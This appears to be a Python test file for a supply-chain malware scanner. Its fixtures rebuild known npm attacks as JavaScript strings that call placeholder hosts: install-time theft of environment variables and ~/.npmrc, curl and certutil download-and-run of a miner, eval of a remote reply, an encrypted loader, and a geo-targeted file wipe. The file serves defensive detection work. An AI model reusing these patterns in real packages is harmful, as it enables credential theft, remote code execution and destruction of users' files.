"""Real supply-chain attacks, rebuilt harmlessly from their public write-ups as (baseline,
staged) pairs: each must get a new high or critical finding at the line that does the harm.

Hosts are `*.example`, payloads do nothing, and nothing here runs: the rules only read.
"""

from __future__ import annotations

import hashlib

from reviews.inspect.rules import Finding, Severity, Status
from tests.inspect.rules_support import describe, scan

README = "# pkg\n"
INDEX = "".join(f"exports.f{i} = (x) => x + {i}\n" for i in range(20))


def serious_new(findings: list[Finding]) -> set[tuple[str, str]]:
    """(rule, path:line) of every new high or critical finding."""
    return {
        (f.rule, f.where)
        for f in findings
        if f.status is Status.NEW and f.severity.rank >= Severity.HIGH.rank
    }


def test_install_time_token_stealer_that_writes_a_ci_workflow():
    """A worm that runs at install, collects the environment and ~/.npmrc, posts them out and
    plants a GitHub Actions workflow (the 2025 npm worm's shape)."""
    bundle = (
        "const fs = require('fs')\n"
        "const os = require('os')\n"
        "const path = require('path')\n"
        "const https = require('https')\n"
        "const secrets = {}\n"
        "for (const key of Object.keys(process.env)) secrets[key] = process.env[key]\n"
        "try { secrets.npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8') }"
        " catch {}\n"
        "const req = https.request({ hostname: 'collector.example', method: 'POST' })\n"
        "req.end(Buffer.from(JSON.stringify(secrets)).toString('base64'))\n"
        "fs.mkdirSync('.github/workflows', { recursive: true })\n"
        "fs.writeFileSync('.github/workflows/ci-helper.yml', 'on: push')\n"
    )

    findings = scan(
        {"index.js": INDEX},
        {"index.js": INDEX, "bundle.js": bundle},
        new_manifest={"scripts": {"postinstall": "node bundle.js"}},
    )

    found = serious_new(findings)
    assert ("code.exfiltration", "bundle.js:8") in found, describe(findings)
    assert ("code.persistence", "bundle.js:11") in found
    assert ("code.credential-file", "bundle.js:7") in found
    assert ("lifecycle.install-script", "package.json:5") in found


def test_obfuscated_browser_payload_appended_to_an_index_file():
    """A wallet drainer appended to a popular package's index.js as one obfuscated line that
    hooks fetch and XMLHttpRequest (the September 2025 compromise's shape)."""
    table = ",".join(
        "'" + "".join(f"\\x{b:02x}" for b in word.encode()) + "'"
        for word in ("fetch", "XMLHttpRequest", "ethereum", "request", "replace", "open")
    )
    names = [f"_0x{hashlib.sha256(bytes([i])).hexdigest()[:6]}" for i in range(12)]
    body = ";".join(f"var {name}={index}*{names[index - 1]}" for index, name in enumerate(names))
    filler = ";".join(f"{names[i % 12]}+={i}" for i in range(900))
    payload = f"var _0x4a1f=[{table}];(function(_0x2d8f05){{{body};{filler}}})(_0x4a1f);\n"

    findings = scan({"index.js": INDEX}, {"index.js": INDEX + payload})

    found = serious_new(findings)
    assert ("obfuscation.hex-identifiers", "index.js:21") in found, describe(findings)
    assert ("obfuscation.escaped-strings", "index.js:21") in found
    assert ("obfuscation.became-minified", "index.js:21") in found


def test_credential_file_read_sent_out_and_the_answer_evaluated():
    """Reads ~/.npmrc, posts it to an "update check", and evaluates what comes back."""
    check = (
        "const fs = require('fs'), os = require('os'), path = require('path')\n"
        "const https = require('https')\n"
        "const rc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8')\n"
        "const req = https.request('https://update.example/v', { method: 'POST' }, (res) => {\n"
        "  let code = ''\n"
        "  res.on('data', (c) => (code += c))\n"
        "  res.on('end', () => eval(code))\n"
        "})\n"
        "req.end(rc)\n"
    )
    old = {"index.js": INDEX, "lib/update.js": "module.exports = () => null\n"}

    findings = scan(old, {"index.js": INDEX, "lib/update.js": check})

    found = serious_new(findings)
    assert ("code.exfiltration", "lib/update.js:4") in found, describe(findings)
    assert ("code.credential-file", "lib/update.js:3") in found
    assert ("code.dynamic-code", "lib/update.js:7") in found


def test_preinstall_miner_download():
    """A preinstall script that downloads a miner with curl (Linux) or certutil (Windows) and
    starts it (the 2021 user-agent parser compromise's shape)."""
    preinstall = (
        "const { exec } = require('child_process')\n"
        "const os = require('os')\n"
        "if (os.type() === 'Linux') exec('curl -s http://mirror.example/jsextension -o "
        "jsextension && chmod +x jsextension && ./jsextension -k --tls')\n"
        "else if (os.type() === 'Windows_NT') exec('certutil.exe -urlcache -f "
        "http://mirror.example/sdd.dll sdd.dll && rundll32.exe sdd.dll,DllRegisterServer')\n"
    )

    findings = scan(
        {"index.js": INDEX},
        {"index.js": INDEX, "preinstall.js": preinstall},
        new_manifest={
            "scripts": {"preinstall": "start /B node preinstall.js & node preinstall.js"}
        },
    )

    found = serious_new(findings)
    assert ("code.download-and-run", "preinstall.js:3") in found, describe(findings)
    assert ("code.download-and-run", "preinstall.js:4") in found
    assert ("lifecycle.install-script", "package.json:5") in found


def test_encrypted_payload_in_a_new_dependency():
    """A new bundled dependency whose minified file ends with a loader that decrypts a hex blob
    from its test data and compiles it as a module (the 2018 stream library compromise)."""
    loader = (
        '!function(){try{var r=require,t=process;function e(r){return Buffer.from(r,"hex")'
        '.toString()}var n=r(e("2e2f746573742f64617461")),o=t[e(n[3])][e(n[4])];if(!o)return;'
        "var u=r(e(n[2]))[e(n[6])](e(n[5]),o),a=u.update(n[0],e(n[8]),e(n[9]));"
        "a+=u.final(e(n[9]));var f=new module.constructor;f.paths=module.paths,"
        'f[e(n[7])](a,""),f.exports(n[1])}catch(r){}}();\n'
    )
    minified = "var s=require('stream');module.exports=function(){return new s.Transform}\n"
    blob = b"".join(hashlib.sha256(b"%d" % i).digest() for i in range(80)).hex()
    data = f'module.exports = ["{blob}", "{blob[:64]}", "63727970746f"]\n'
    files = {
        "index.js": INDEX,
        "node_modules/flatmap-stream/package.json": '{"name": "flatmap-stream"}\n',
        "node_modules/flatmap-stream/index.min.js": minified + loader,
        "node_modules/flatmap-stream/test/data.js": data,
    }

    findings = scan(
        {"index.js": INDEX},
        files,
        new_manifest={
            "dependencies": {"flatmap-stream": "^0.1.1"},
            "bundleDependencies": ["flatmap-stream"],
        },
    )

    found = serious_new(findings)
    where = "node_modules/flatmap-stream"
    assert ("code.dynamic-code", f"{where}/index.min.js:2") in found, describe(findings)
    assert ("obfuscation.encoded-literal", f"{where}/test/data.js:1") in found


def test_geo_targeted_destructive_write():
    """Asks a geolocation service where it runs and, in one country, overwrites every file it
    can walk to (the 2022 IPC library protestware's shape; strings base64-encoded as there)."""
    geo = (
        "const https = require('https'), fs = require('fs'), path = require('path')\n"
        "const decode = (s) => Buffer.from(s, 'base64').toString()\n"
        "https.get(decode('aHR0cHM6Ly9nZW8uZXhhbXBsZS9pcGdlbw=='), (res) => {\n"
        "  let body = ''\n"
        "  res.on('data', (c) => (body += c))\n"
        "  res.on('end', () => {\n"
        "    if (JSON.parse(body).country === decode('VGVzdGxhbmQ=')) wipe(decode('Li4v'))\n"
        "  })\n"
        "})\n"
        "function wipe(dir) {\n"
        "  for (const name of fs.readdirSync(dir)) {\n"
        "    const file = path.join(dir, name)\n"
        "    if (fs.statSync(file).isDirectory()) wipe(file)\n"
        "    else fs.writeFileSync(file, '\u2764\ufe0f')\n"
        "  }\n"
        "}\n"
    )

    findings = scan(
        {"index.js": INDEX},
        {"index.js": INDEX + "require('./dao/ssl-geospec.js')\n", "dao/ssl-geospec.js": geo},
    )

    found = serious_new(findings)
    assert ("code.destructive", "dao/ssl-geospec.js:14") in found, describe(findings)
